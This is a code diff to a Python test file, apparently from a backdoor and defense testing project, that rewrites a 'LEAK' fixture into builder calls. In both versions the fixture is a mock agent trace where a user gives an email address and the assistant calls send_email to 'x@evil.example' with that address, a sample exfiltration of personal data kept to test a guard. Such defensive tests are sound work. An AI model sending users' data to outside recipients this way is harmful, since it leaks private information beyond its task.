@@ -30,29 +30,13 @@ from bad_input import LINE, one_line
 from child_cli import child_cli
 
 from backdoorlab.errors import BackdoorlabError
+from tests.defenses.audit_builders import call, result, trace, user
 
-LEAK = {
-    "messages": [
-        {"role": "user", "content": "My email is ann@example.com."},
-        {
-            "role": "assistant",
-            "content": None,
-            "tool_calls": [
-                {
-                    "id": "c1",
-                    "type": "function",
-                    "function": {
-                        "name": "send_email",
-                        "arguments": json.dumps(
-                            {"to": "x@evil.example", "body": "ann@example.com"}
-                        ),
-                    },
-                }
-            ],
-        },
-        {"role": "tool", "tool_call_id": "c1", "content": "sent"},
-    ]
-}
+LEAK = trace(
+    user("My email is ann@example.com."),
+    call("send_email", {"to": "x@evil.example", "body": "ann@example.com"}, "c1"),
+    result("send_email", "sent", "c1"),
+)
 
 
 # ------------------------------------------------------------------ guard proxy --upstream
